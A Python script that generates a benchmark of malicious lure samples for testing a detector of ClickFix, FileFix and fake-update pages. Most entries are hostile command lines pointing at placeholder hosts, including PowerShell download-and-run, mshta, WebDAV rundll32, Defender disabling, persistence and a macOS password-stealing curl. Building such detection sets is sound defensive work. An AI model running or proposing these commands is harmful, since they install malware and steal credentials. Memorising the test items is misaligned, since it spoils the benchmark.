"""Writes the twelfth blind set, bench/blind/lures-12.jsonl and benign-12.jsonl (bench/blind/README.md,
"Blind-12"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind12.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, the Run-box
list, app/, any case file, misses list or verdict), weighted like the hold-out: lures as a crawl of
live fake-CAPTCHA, fake-error, fake-meeting, fake-document, fake-download and fake-alert pages would
capture them, commands as vendor IOC files list them (with no page), the short obfuscated one-liners
other detectors' fixtures use, and scam, callback, ConsentFix and device-code texts. Every text is our
own; lures use reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges) and
fictitious phone numbers in 555 blocks. Benign installers are real projects' published commands with
the page they are published on, none of them in sets 1-11. Not imported by the app or the bench: the
bench reads the jsonl files.
"""

from __future__ import annotations

import codecs
from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-12.jsonl"
BENIGN_OUT = HERE / "benign-12.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc

# Verification tails, worded anew in the 13 languages and others the earlier sets did not use.
TAILS = [
    "# I'm not a robot: reCAPTCHA check passed (ID 31-7740)",
    "# Ich bin kein Roboter - Prüfung bestanden, Vorgang 80412",
    "# Je ne suis pas un robot - contrôle validé n° 5513",
    "# No soy un robot - comprobación superada, ID 6024",
    "# Non sono un robot - controllo superato, ID 4471",
    "# Não sou um robô - verificação aprovada, ID 1938",
    "# Ik ben geen robot - controle geslaagd, ID 7205",
    "# Nie jestem robotem - weryfikacja udana, ID 3390",
    "# Robot değilim - doğrulama başarılı, kimlik 6158",
    "# Я не робот - проверка пройдена, ID 8832",
    "# 私はロボットではありません - 確認済み ID 2291",
    "# 我不是机器人 - 验证通过 编号 61874",
    "# لست روبوتًا - تم التحقق بنجاح، المعرف 4407",
    "# Jag är inte en robot - verifiering klar, ID 5120",
    "# Jeg er ikke en robot - bekræftet, ID 9034",
    "# Nu sunt robot - verificare reușită, ID 2716",
    "# Nem vagyok robot - ellenőrzés sikeres, azonosító 3385",
    "# Я не робот - перевірку пройдено, ID 4862",
    "# Не съм робот - проверката е успешна, ID 1159",
    "# Saya bukan robot - pengesahan berjaya, ID 7741",
    "# من ربات نیستم - تأیید انجام شد، شناسه 6620",
    "# আমি রোবট নই - যাচাই সম্পন্ন, আইডি 2083",
    "# Mimi si roboti - uthibitisho umekamilika, 5531",
    "# Nisam robot - provjera uspješna, ID 8846",
]


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


def esc_hex(text: str) -> str:
    """Every byte as a \\xNN escape (bash $'..', printf)."""
    return "".join(f"\\x{b:02x}" for b in text.encode())


def esc_oct(text: str) -> str:
    """Every byte as a \\NNN octal escape (printf)."""
    return "".join(f"\\{b:03o}" for b in text.encode())


def js_hex(text: str) -> str:
    """Every character as a JavaScript \\xNN escape."""
    return "".join(f"\\x{ord(c):02x}" for c in text)


def ip_hex(ip: str) -> str:
    """A dotted IPv4 address as one hexadecimal number (0xC0000201), as browsers and mshta take it."""
    return f"0x{ip_int(ip):08X}"


def ip_octal(ip: str) -> str:
    """Each octet of an IPv4 address in octal with a leading zero (0300.0.02.01)."""
    return ".".join(f"0{int(o):o}" for o in ip.split("."))


def cmd_slice(word: str, pool: str, var: str) -> str:
    """A cmd %var:~i,1% spelling of `word`, each letter taken from `pool` (which holds them all)."""
    return "".join(f"%{var}:~{pool.index(c)},1%" for c in word)


# --- (a) live pages: fake Cloudflare / Turnstile / reCAPTCHA interstitials, Run box ------------------

TURNSTILE = [
    (
        "ps-runbox-var-url-iex-irm",
        "https://www.keramik-atelier-lindenhof.test/kurse/drehscheibe/",
        "powershell -w 1 -ep bypass -c \"$u='https://cf12a.tallowmere.invalid/ck';iex(irm $u)\"",
    ),
    (
        "ps-runbox-iwr-usebasic-content-scriptblock-amp",
        "https://www.trattoria-sul-molo.example/prenota",
        "powershell.exe -NoP -W Hidden -Command \"& {iex ((iwr 'https://cf12b.ostrakon-cdn.invalid/p' -UseBasicParsing).Content)}\"",
    ),
    (
        "ps-runbox-invoke-expression-invoke-webrequest",
        "https://blog.bonsai-pflege-tipps.test/2026/10/umtopfen/",
        'powershell -c "Invoke-Expression (Invoke-WebRequest -Uri https://cf12c.quillon-edge.invalid/v -UseBasicParsing)"',
    ),
    (
        "ps-runbox-utf8-getstring-bytes",
        "https://www.zahnarztpraxis-am-anger.example/termine",
        'pwsh -nop -c "iex ([Text.Encoding]::UTF8.GetString((iwr https://cf12d.brindle-node.invalid/b).Content))"',
    ),
    (
        "ps-runbox-webrequest-create-streamreader",
        "https://forum.modellbahn-spur-n.test/thread/8812",
        "powershell -WindowStyle Minimized -c \"$r=[Net.WebRequest]::Create('https://cf12e.sallow-gate.invalid/s');iex ([IO.StreamReader]::new($r.GetResponse().GetResponseStream()).ReadToEnd())\"",
    ),
    (
        "ps-runbox-start-bitstransfer-run",
        "https://www.camping-lac-bleu.example/reservation",
        'powershell -nop -c "Start-BitsTransfer -Source https://cf12f.wicket-cache.invalid/u.ps1 -Destination $env:TEMP\\u.ps1; & $env:TEMP\\u.ps1"',
    ),
    (
        "ps-runbox-irm-useragent",
        "https://www.sushi-kaiten-harbor.test/menu",
        "powershell -nop -c \"iex(irm https://cf12g.marram-hub.invalid/ua -UserAgent 'Mozilla/5.0 (Windows NT 10.0)')\"",
    ),
    (
        "cmd-start-min-powershell-irm",
        "https://recettes.cuisine-de-mamie.example/tarte-tatin",
        'cmd /c start /min powershell -w h -c "irm https://cf12h.pelorus-io.invalid/m|iex"',
    ),
    (
        "ps-runbox-openread-streamreader",
        "https://www.autohaus-vogelsang.test/gebrauchtwagen",
        "powershell -ep bypass -c \"iex (New-Object IO.StreamReader((New-Object Net.WebClient).OpenRead('https://cf12i.gannetry-relay.invalid/o'))).ReadToEnd()\"",
    ),
    (
        "ps-runbox-msxml2-xmlhttp",
        "https://www.yoga-studio-sahasrara.example/classes",
        "powershell -c \"$w=New-Object -ComObject Msxml2.XMLHTTP;$w.open('GET','https://cf12j.thimble-mirror.invalid/x',$false);$w.send();iex $w.responseText\"",
    ),
    (
        "ps-runbox-irm-outfile-cmd",
        "https://www.tierarzt-am-deich.test/notdienst",
        'powershell -c "irm https://cf12k.corvid-static.invalid/s.cmd -OutFile $env:APPDATA\\s.cmd; cmd /c $env:APPDATA\\s.cmd"',
    ),
    (
        "ps-runbox-scriptblock-create-invoke",
        "https://www.biblioteca-popolare.example/catalogo",
        "powershell -NoLogo -c \"[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('https://cf12l.osprey-fetch.invalid/g')).Invoke()\"",
    ),
    (
        "ps-runbox-defender-exclusion-then-download",
        "https://www.handball-verein-nordstern.test/spielplan",
        'powershell -w h -c "Add-MpPreference -ExclusionPath $env:LOCALAPPDATA; iwr https://cf12m.heron-bin.invalid/h.exe -OutFile $env:LOCALAPPDATA\\h.exe; saps $env:LOCALAPPDATA\\h.exe"',
    ),
    (
        "ps-runbox-encodedcommand-ec",
        "https://www.lojas-de-tecidos.example/promocoes",
        "powershell -nop -w h -ec " + b64_utf16("iex (irm https://cf12n.lapwing-box.invalid/e)"),
    ),
    (
        "ps-runbox-irm-pipe-powershell-dash",
        "https://www.fietsenwinkel-de-spaak.test/reparatie",
        'powershell -c "irm https://cf12o.plover-dl.invalid/f | powershell -"',
    ),
    (
        "ps-runbox-tls12-then-iex",
        "https://www.kancelaria-prawna-nowak.example/kontakt",
        "powershell -c \"[Net.ServicePointManager]::SecurityProtocol='Tls12';iex (New-Object Net.WebClient).DownloadString('https://cf12p.shrike-cdn.invalid/t')\"",
    ),
]
for i, (technique, page, cmd) in enumerate(TURNSTILE):
    lure(technique, RUN, page, f"{cmd} {tail(i)}")

# --- compromised WordPress and shop pages (the lure injected into a real site's path) -------------

WP = [
    (
        "wp-mshta-hex-ip",
        "https://www.gasthof-zur-post-murnau.test/wp-content/themes/astra/",
        f"mshta http://{ip_hex('198.51.100.173')}/verify.hta",
    ),
    (
        "wp-mshta-octal-ip",
        "https://www.kindergarten-sonnenblume.example/wp-admin/admin-ajax.php",
        f"mshta http://{ip_octal('203.0.113.166')}/cap",
    ),
    (
        "wp-curl-tar-extract-run",
        "https://www.ferreteria-el-tornillo.test/wp-content/uploads/2026/11/",
        "cmd /c curl -s https://wp12a.tamarack-files.invalid/a.zip -o %TEMP%\\a.zip & tar -xf %TEMP%\\a.zip -C %TEMP% & %TEMP%\\a\\launcher.exe",
    ),
    (
        "wp-rundll32-webdav-at-ssl",
        "https://www.weingut-steillage.example/shop/riesling/",
        "rundll32.exe \\\\wp12b.fescue-dav.invalid@SSL\\DavWWWRoot\\upd.dll,Start",
    ),
    (
        "wp-cscript-engine-jscript-txt",
        "https://www.pizzeria-da-toni.test/?p=2231",
        "cscript //nologo //E:jscript \\\\wp12c.tansy-share.invalid@80\\pub\\readme.txt",
    ),
    (
        "wp-reg-run-key-mshta",
        "https://www.sportverein-eintracht-ost.example/wp-json/wp/v2/posts/",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d "mshta https://wp12d.sorrel-edge.invalid/k" /f && mshta https://wp12d.sorrel-edge.invalid/k',
    ),
    (
        "wp-echo-vbs-wscript",
        "https://www.optica-vision-clara.test/wp-login.php",
        'cmd /c echo CreateObject("WScript.Shell").Run "powershell -w h -c irm https://wp12e.yarrow-cdn.invalid/v|iex",0 > %TEMP%\\c.vbs && wscript %TEMP%\\c.vbs',
    ),
    (
        "wp-add-appxpackage-url",
        "https://www.restaurant-le-mistral.example/wp-content/plugins/elementor/",
        'powershell -c "Add-AppxPackage -Path https://wp12f.bracken-pkg.invalid/TeamsUpdate.msix"',
    ),
    (
        "wp-msiexec-unc-share",
        "https://www.dachdeckerei-krause.test/referenzen/",
        "msiexec /q /i \\\\203.0.113.214\\inst\\setup.msi",
    ),
    (
        "wp-start-lnk-on-webdav",
        "https://www.escuela-de-idiomas-sol.example/wp-content/cache/",
        'cmd /c start "" \\\\wp12g.mallow-dav.invalid@SSL@443\\DavWWWRoot\\Invoice_2026.pdf.lnk',
    ),
    (
        "wp-certutil-urlcache-split-start",
        "https://www.boulangerie-du-marche.test/wp-includes/js/",
        "certutil -urlcache -split -f https://wp12h.nettle-dl.invalid/u.exe %PUBLIC%\\u.exe && start %PUBLIC%\\u.exe",
    ),
    (
        "wp-odbcconf-regsvr-share",
        "https://www.fahrschule-blitzstart.example/preise/",
        "odbcconf /a {REGSVR \\\\wp12i.teasel-smb.invalid\\s\\odbc.dll}",
    ),
]
for i, (technique, page, cmd) in enumerate(WP):
    lure(technique, RUN, page, f"{cmd} {tail(i + 5)}")

# --- newer shapes seen on live pages in 2025-2026 ----------------------------------------------------

for technique, target, page, text in [
    (
        "ps-resolve-dnsname-txt-iex",
        RUN,
        "https://verify.sentinel-gatecheck.test/human",
        'powershell -w h -c "iex (Resolve-DnsName -Type TXT st12.dunlin-ns.invalid).Strings[0]" # Cloudflare: Verify you are human',
    ),
    (
        "cmd-nslookup-server-ip-findstr",
        RUN,
        "https://check.captcha-lumen.example/step2",
        "cmd /c nslookup -q=txt cfg.kestrel-ns.invalid 198.51.100.103 | findstr /v Server > %TEMP%\\n.cmd && %TEMP%\\n.cmd",
    ),
    (
        "terminal-winx-powershell-steps",
        TERM,
        "https://secure.winfix-helpcenter.test/error-0x80070643",
        "Press Windows + X, choose Terminal (Admin), paste and press Enter:\nirm https://fx12a.murrelet-sys.invalid/repair | iex",
    ),
    (
        "mshta-hash-fragment-comment",
        RUN,
        "https://human.bot-shield-verify.example/",
        "mshta https://ms12a.gadwall-host.invalid/v#  ✅ ''I am not a robot - reCAPTCHA Verification ID: 7731''",
    ),
    (
        "conhost-headless-cmd-curl",
        RUN,
        "https://www.notary-docs-online.test/signature",
        'conhost.exe --headless cmd /c "curl -s https://ch12a.wigeon-cdn.invalid/x.bat -o %TEMP%\\x.bat && %TEMP%\\x.bat"',
    ),
    (
        "net-use-webdav-then-run",
        RUN,
        "https://portal.rechnung-archiv.example/view/88213",
        "cmd /c net use Q: https://nu12a.scoter-dav.invalid/share && Q:\\viewer.exe",
    ),
    (
        "explorer-hta-on-webdav",
        RUN,
        "https://docs.sharepoint-filerelay.test/s/Q4",
        "explorer.exe \\\\ex12a.smew-dav.invalid@SSL\\DavWWWRoot\\Q4_Report.hta",
    ),
    (
        "powershell-invoke-item-webdav-lnk",
        RUN,
        "https://meet.videocall-roomhub.example/j/55102",
        'powershell -c "ii \\\\ii12a.eider-dav.invalid@SSL\\DavWWWRoot\\audio_fix.lnk"',
    ),
    (
        "crashfix-browser-repair",
        RUN,
        "https://www.browserhealth-scan.test/crashed",
        'cmd /c start /min powershell -nop -c "iwr https://cr12a.goldeneye-fix.invalid/repair.ps1 -UseB | iex" :: Chrome stopped unexpectedly - repair tool',
    ),
    (
        "fake-windows-update-fullscreen",
        RUN,
        "https://update.win-securepatch.example/kb5050021",
        'powershell -w h -c "$p="$env:TEMP\\kb5050021.exe";iwr https://wu12a.pochard-dl.invalid/kb5050021.exe -o $p;& $p /quiet" # Critical update KB5050021',
    ),
    (
        "bsod-fake-recovery-key",
        RUN,
        "https://recovery.bluescreen-assist.test/",
        'powershell -c "irm https://bs12a.canvasback-rec.invalid/restore|iex" # Windows Recovery: paste to restore your session (code 0xC000021A)',
    ),
    (
        "pcalua-webdav-exe",
        RUN,
        "https://captcha.turnstile-gate.example/challenge",
        "pcalua.exe -a \\\\pc12a.bufflehead-dav.invalid@SSL\\DavWWWRoot\\check.exe",
    ),
    (
        "cmd-findstr-cache-smuggle-jpg",
        RUN,
        "https://www.firmware-portal-vpn.test/client/download",
        "powershell -w h -c \"$f=gci $env:LOCALAPPDATA\\Google\\Chrome\\User*Data\\Default\\Cache\\Cache_Data -r|sls -Pattern 'B12START(.*)B12END' -List|select -f 1;iex $f.Matches[0].Groups[1].Value\"",
    ),
    (
        "rundll32-shell32-control-rundll-cpl-webdav",
        RUN,
        "https://id.verify-shipment.example/track/55810",
        "rundll32.exe shell32.dll,Control_RunDLL \\\\cp12a.merganser-dav.invalid@SSL\\DavWWWRoot\\print.cpl",
    ),
    (
        "installutil-from-temp-after-curl",
        RUN,
        "https://www.fakturace-online.test/doklad/2291",
        "cmd /c curl -so %TEMP%\\d.dll https://iu12a.redhead-pkg.invalid/d.dll & C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U %TEMP%\\d.dll",
    ),
    (
        "ps-iex-from-clipboard-second-stage",
        RUN,
        "https://anti-bot.protect-visitor.example/",
        'powershell -w h -c "iwr https://cb12a.harlequin-dl.invalid/s2 -UseBasicParsing | % Content | Set-Clipboard; iex (Get-Clipboard -Raw)"',
    ),
    (
        "msiexec-package-https-quiet",
        RUN,
        "https://zoom-updater.meeting-fixes.test/",
        "msiexec.exe /package https://ms12b.longtail-msi.invalid/ZoomAudio.msi /quiet",
    ),
    (
        "ps-jpg-tail-base64-stage",
        RUN,
        "https://photo.picture-viewer-hd.example/album/221",
        "powershell -w h -c \"$b=(iwr https://im12a.ruddy-img.invalid/i.jpg).Content;$t=[Text.Encoding]::ASCII.GetString($b);iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($t.Substring($t.IndexOf('IDAT12')+6))))\"",
    ),
    (
        "finger-pipe-cmd-new-host",
        RUN,
        "https://check.human-or-bot.test/verify",
        "cmd /c finger verify@fn12a.sandpiper-id.invalid | cmd",
    ),
    (
        "wscript-js-on-webdav-quoted",
        RUN,
        "https://www.parcel-redelivery-desk.example/resched",
        'wscript.exe "\\\\ws12a.curlew-dav.invalid@SSL\\DavWWWRoot\\Label_Print.js"',
    ),
    (
        "schtasks-minute-mshta",
        RUN,
        "https://www.invoice-cloud-preview.test/doc",
        'schtasks /create /sc minute /mo 30 /tn "EdgeUpdateTaskCore" /tr "mshta https://sc12a.whimbrel-cdn.invalid/t" /f',
    ),
    (
        "ps-set-mp-disable-then-irm",
        RUN,
        "https://driver.audio-codec-fix.example/realtek",
        'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; irm https://dv12a.godwit-drv.invalid/a | iex"',
    ),
    (
        "bitsadmin-transfer-then-rundll32",
        RUN,
        "https://www.steuerberatung-ahrens.test/mandanten",
        "bitsadmin /transfer j /download /priority high https://bt12a.knot-files.invalid/m.dll %TEMP%\\m.dll & rundll32 %TEMP%\\m.dll,DllRegisterServer",
    ),
]:
    lure(technique, target, page, text)

# --- fake meeting, document, job, game, AI, VPN, update and "security alert" pages ---------------

for technique, target, page, text, platform in [
    (
        "fake-meet-mic-blocked-ps",
        RUN,
        "https://meet.google-roomjoin.test/xqa-mbtr-vke",
        'powershell -w h -c "iex(irm https://gm12a.avocet-audio.invalid/mic)" # Microphone access blocked - paste to reset audio permissions',
        "windows",
    ),
    (
        "fake-teams-webview-repair",
        RUN,
        "https://teams.msft-collab-join.example/l/meetup-join/19",
        'cmd /c powershell -nop -c "iwr https://tm12a.stilt-media.invalid/WebView2Fix.ps1 -UseBasicParsing | iex" :: Teams WebView2 repair',
        "windows",
    ),
    (
        "fake-zoom-sdk-mac",
        TERM,
        "https://zoom.us-sdkupdate.test/j/81130",
        "curl -fsSL https://zm12a.phalarope-sdk.invalid/zoomsdk.sh | zsh  # Zoom SDK update for macOS",
        "macos",
    ),
    (
        "fake-webex-audio-driver",
        RUN,
        "https://webex-join.conference-line.example/meet/pr.ortiz",
        "msiexec /i https://wx12a.ibis-drv.invalid/WebexAudio.msi /qn",
        "windows",
    ),
    (
        "fake-docusign-viewer",
        RUN,
        "https://docusign.envelope-review.test/signing/7c01",
        'powershell -w h -c "iwr https://ds12a.jacana-doc.invalid/Viewer.exe -OutFile $env:TEMP\\Viewer.exe; Start-Process $env:TEMP\\Viewer.exe" # DocuSign secure viewer',
        "windows",
    ),
    (
        "fake-onedrive-sync-repair",
        RUN,
        "https://onedrive.live-fileshare.example/redir/8812",
        'powershell -c "irm https://od12a.rail-sync.invalid/odfix | iex" # OneDrive: file could not be previewed - repair sync',
        "windows",
    ),
    (
        "fake-pdf-font-pack",
        RUN,
        "https://pdf.viewer-fontpack.test/doc/agreement.pdf",
        "mshta https://pf12a.coot-fonts.invalid/fontpack.hta # Install missing font pack to view this PDF",
        "windows",
    ),
    (
        "fake-job-coding-test-npx",
        TERM,
        "https://careers.quantleaf-hiring.example/assessment/fe-2291",
        "npx -y https://jb12a.moorhen-pkg.invalid/assessment-runner.tgz --candidate 2291",
        "any",
    ),
    (
        "fake-interview-camera-driver-mac",
        TERM,
        "https://interview.talentbridge-meet.test/room/rcx",
        "curl -s https://iv12a.gallinule-cam.invalid/camfix | sudo bash  # Camera driver fix before your interview",
        "macos",
    ),
    (
        "fake-take-home-pip-git",
        TERM,
        "https://hiring.blockledger-labs.example/take-home",
        "pip install git+https://tk12a.crake-git.invalid/ledger-eval.git && ledger-eval --start",
        "any",
    ),
    (
        "game-cheat-loader-defender-off",
        RUN,
        "https://www.valorant-aimbot-free.test/download",
        'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; iwr https://gc12a.bittern-cheat.invalid/loader.exe -o $env:TEMP\\l.exe; & $env:TEMP\\l.exe"',
        "windows",
    ),
    (
        "game-mod-installer-mshta",
        RUN,
        "https://mods.skyrim-texturepack.example/install",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""curl -s https://gm12b.egret-mods.invalid/m.bat -o %TEMP%\\m.bat & %TEMP%\\m.bat"",0:close")',
        "windows",
    ),
    (
        "crack-keygen-tar",
        RUN,
        "https://www.adobe-cc-crack-2026.test/get",
        "cmd /c curl -sL https://ck12a.spoonbill-warez.invalid/kg.tgz -o %TEMP%\\kg.tgz & tar xf %TEMP%\\kg.tgz -C %TEMP% & start %TEMP%\\keygen.exe",
        "windows",
    ),
    (
        "fake-ai-video-generator",
        RUN,
        "https://www.sora-ai-videomaker.example/free",
        "powershell -nop -c \"iex (irm 'https://ai12a.flamingo-gen.invalid/setup')\" # AI Video Studio installer",
        "windows",
    ),
    (
        "fake-ai-coding-assistant-mac",
        TERM,
        "https://get-claudecode-desktop.test/mac",
        '/bin/bash -c "$(curl -fsSL https://ai12b.stork-tools.invalid/install.sh)"',
        "macos",
    ),
    (
        "fake-vpn-client-linux",
        TERM,
        "https://www.securevpn-freeclient.example/linux",
        "wget -qO- https://vp12a.ibisbill-vpn.invalid/setup.sh | sudo bash",
        "linux",
    ),
    (
        "fake-adblocker-extension-helper",
        RUN,
        "https://adblock-ultimate-free.test/enable",
        'powershell -w h -c "irm https://ab12a.courser-ext.invalid/helper.ps1 | iex" # enable the extension helper',
        "windows",
    ),
    (
        "fake-chrome-update-ps",
        RUN,
        "https://chrome-update.browser-patch.example/",
        'powershell -c "$d="$env:TEMP\\ChromeSetup.exe"; (New-Object Net.WebClient).DownloadFile(\'https://cu12a.pratincole-up.invalid/ChromeSetup.exe\',$d); saps $d"',
        "windows",
    ),
    (
        "github-security-alert-ps",
        RUN,
        "https://gh-advisory-bulletin.test/security/GHSA-7c12",
        'powershell -w h -c "iwr https://gh12a.jaeger-sec.invalid/scan.ps1 | iex" # GitHub Security: run the scanner to verify your account',
        "windows",
    ),
    (
        "github-issue-fix-mac",
        TERM,
        "https://issues.github-repo-alert.example/alert/4412",
        "curl -sL https://gh12b.skua-fix.invalid/patch.sh | bash  # required security patch for your repository",
        "macos",
    ),
    (
        "fake-captcha-discord-verify-ps",
        RUN,
        "https://discord-verify-server.test/guild/8812",
        'powershell -c "irm https://dc12a.auklet-bot.invalid/verify|iex" # Discord server verification',
        "windows",
    ),
    (
        "fake-sharepoint-filefix-run",
        RUN,
        "https://sharepoint.docs-preview-center.example/sites/hr",
        'explorer.exe "\\\\sp12a.murre-dav.invalid@SSL\\DavWWWRoot\\HR_Policy.xlsx.url"',
        "windows",
    ),
    (
        "fake-wallet-sync-mac",
        TERM,
        "https://ledger-live-sync.support-center.test/mac",
        "curl -o /tmp/LedgerSync.zip https://lg12a.guillemot-app.invalid/ls.zip && unzip -o /tmp/LedgerSync.zip -d /tmp && xattr -cr /tmp/LedgerSync.app && open /tmp/LedgerSync.app",
        "macos",
    ),
    (
        "fake-homebrew-install-page",
        TERM,
        "https://brew-sh-install.example/",
        '/bin/bash -c "$(curl -fsSL https://raw.homebrew-mirror.invalid/Homebrew/install/HEAD/install.sh)"',
        "macos",
    ),
    (
        "fake-cursor-ai-editor-mac",
        TERM,
        "https://cursor-ai-download.test/mac",
        "curl -fsSL https://cs12a.puffin-apps.invalid/cursor-install | /bin/zsh",
        "macos",
    ),
    (
        "fake-steam-linux-helper",
        TERM,
        "https://steam-linux-runtime-fix.example/",
        "curl -sSL https://st12a.fulmar-games.invalid/runtime-fix.sh | sudo -E bash -",
        "linux",
    ),
    (
        "fake-printer-driver-runbox",
        RUN,
        "https://hp-driver-center.printer-support.test/laserjet",
        "msiexec /i \\\\pr12a.shearwater-drv.invalid@SSL\\DavWWWRoot\\hp_universal.msi /qn",
        "windows",
    ),
    (
        "fake-captcha-press-keys-image",
        RUN,
        "https://img-verify.captcha-pixel.example/",
        'powershell -w hidden -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((irm https://pi12a.petrel-img.invalid/p.txt))))"',
        "windows",
    ),
]:
    lure(technique, target, page, text, platform=platform)

# --- FileFix: Explorer address bar, the command hidden behind a long fake path --------------------

HAIR = "\u200a"
THIN = "\u2009"
FIGSP = "\u2007"
PUNCSP = "\u2008"
BRAILLE = "\u2800"
OGHAM = "\u1680"
MMSP = "\u205f"
HANGUL_F = "\u3164"
FILEFIX = [
    (
        "https://files.hr-benefits-portal.test/open/benefits-2027",
        'powershell -w h -c "iwr https://ff12a.loon-files.invalid/b.ps1 -UseB|iex"',
        "C:\\HR\\Benefits\\2027_Enrolment_Form.docx",
        FIGSP,
    ),
    (
        "https://share.payroll-docs-secure.example/f/payslip",
        "cmd /c curl -s https://ff12b.grebe-dl.invalid/p.cmd|cmd",
        "\\\\fileserver\\Payroll\\Lohnabrechnung_November.pdf",
        PUNCSP,
    ),
    (
        "https://docs.contrat-signature.test/dossier/4471",
        "mshta https://ff12c.tern-hta.invalid/c.hta",
        "C:\\Documents\\Contrat_de_location_signé.pdf",
        OGHAM,
    ),
    (
        "https://compartir.facturas-electronicas.example/ver",
        'powershell -nop -c "irm https://ff12d.fulvous-cdn.invalid/f|iex"',
        "C:\\Facturas\\Factura_2026_0912.pdf",
        MMSP,
    ),
    (
        "https://condivisione.preventivi-edili.test/apri",
        "powershell -c \"saps powershell -Args '-w h -c irm https://ff12e.pintail-srv.invalid/i|iex'\"",
        "C:\\Preventivi\\Preventivo_ristrutturazione.xlsx",
        NBSP + THIN,
    ),
    (
        "https://arquivos.notas-fiscais-online.example/abrir",
        'cmd /c start /b powershell -w h -c "irm https://ff12f.garganey-dl.invalid/n|iex"',
        "C:\\Notas\\Nota_Fiscal_88213.pdf",
        EMSP + ZWSP,
    ),
    (
        "https://bestanden.offerte-delen.test/open",
        "powershell -w h -c \"iex(New-Object Net.WebClient).DownloadString('https://ff12g.teal-fetch.invalid/o')\"",
        "C:\\Offertes\\Offerte_Q1_2027.docx",
        BRAILLE,
    ),
    (
        "https://pliki.faktury-udostepnij.example/otworz",
        "mshta https://ff12h.shoveler-hta.invalid/f.hta",
        "C:\\Faktury\\Faktura_VAT_11_2026.pdf",
        HANGUL_F,
    ),
    (
        "https://dosya.sozlesme-paylas.test/ac",
        'powershell -c "iwr https://ff12i.smew-dl.invalid/s.exe -o $env:TEMP\\s.exe;& $env:TEMP\\s.exe"',
        "C:\\Belgeler\\Sözleşme_taslağı.pdf",
        IDSP,
    ),
    (
        "https://fayly.dogovor-obmen.example/otkryt",
        'powershell -w h -c "irm https://ff12j.scaup-files.invalid/d|iex"',
        "C:\\Документы\\Договор_поставки_2027.pdf",
        HAIR,
    ),
    (
        "https://kyoyu.seikyusho-download.test/hiraku",
        "cmd /c curl -s https://ff12k.stint-dl.invalid/j.bat -o %TEMP%\\j.bat && %TEMP%\\j.bat",
        "C:\\書類\\請求書_2026年11月.pdf",
        NNBSP,
    ),
    (
        "https://gongxiang.hetong-wenjian.example/dakai",
        'powershell -nop -w h -c "iwr https://ff12l.dotterel-cdn.invalid/z | iex"',
        "C:\\文件\\采购合同_2027.docx",
        ENSP + ZWSP,
    ),
    (
        "https://mosharaka.eqd-malafat.test/iftah",
        "mshta https://ff12m.ruff-hta.invalid/a.hta",
        "C:\\Documents\\عقد_العمل_2027.pdf",
        NBSP,
    ),
]
for source, cmd, path, pad in FILEFIX:
    lure("filefix-padded-path", EXP, source, f"{cmd}{pad * 70}# {path}")

for technique, source, text in [
    (
        "filefix-upload-dialog-webdav-js",
        "https://upload.tax-return-secure.example/file",
        "\\\\fx12n.sanderling-dav.invalid@SSL\\DavWWWRoot\\Tax_Return_2026.pdf.js",
    ),
    (
        "filefix-search-ms-crumb",
        "https://search.shared-folder-viewer.test/q",
        "search-ms:query=Invoice&crumb=location:\\\\fx12o.knot-dav.invalid@SSL\\DavWWWRoot\\share&displayname=Invoices",
    ),
    (
        "filefix-explorer-cmd-pipe-finger",
        "https://file.secure-attach-view.example/x",
        "cmd /c finger docs@fx12p.whinchat-id.invalid|cmd"
        + NBSP * 60
        + "# C:\\Shared\\Quarterly_Review.pdf",
    ),
]:
    lure(technique, EXP, source, text)

# --- macOS: paste into Terminal (AMOS / Odyssey / Atomic-style pages, fake apps and Homebrew) ------


def mac(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect=expect, platform="macos")


for technique, source, text, *expect in [
    (
        "mac-echo-base64-zsh",
        "https://verify.cloudflare-macos-check.test/",
        f"echo '{b64('curl -fsSL https://am12a.wryneck-mac.invalid/u | bash')}' | base64 -d | zsh",
    ),
    (
        "mac-osascript-do-shell-script",
        "https://www.macbook-cleaner-pro.example/start",
        "osascript -e 'do shell script \"curl -s https://am12b.linnet-mac.invalid/c | sh\"'",
    ),
    (
        "mac-curl-xattr-chmod-run",
        "https://get-notion-ai-mac.test/",
        "curl -so /tmp/.n https://am12c.twite-bin.invalid/n && xattr -c /tmp/.n && chmod +x /tmp/.n && /tmp/.n",
    ),
    (
        "mac-installer-pkg-sudo",
        "https://www.macos-sequoia-fix.example/audio",
        "curl -sLo /tmp/AudioFix.pkg https://am12d.serin-pkg.invalid/AudioFix.pkg && sudo installer -pkg /tmp/AudioFix.pkg -target /",
    ),
    (
        "mac-ruby-open-uri-eval",
        "https://captcha.mac-human-check.test/",
        'ruby -e \'require "open-uri"; eval URI.open("https://am12e.siskin-rb.invalid/r").read\'',
    ),
    (
        "mac-dscl-password-check-then-curl",
        "https://appleid-verify-storage.example/",
        'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && curl -s -d "p=$P" https://am12f.redpoll-mac.invalid/k',
    ),
    (
        "mac-curl-zip-open-app",
        "https://www.telegram-desktop-mac.test/download",
        "cd /tmp && curl -sLO https://am12g.crossbill-app.invalid/Telegram.zip && unzip -qo Telegram.zip && open Telegram.app",
    ),
    (
        "mac-nohup-background-curl",
        "https://error.safari-extension-fix.example/",
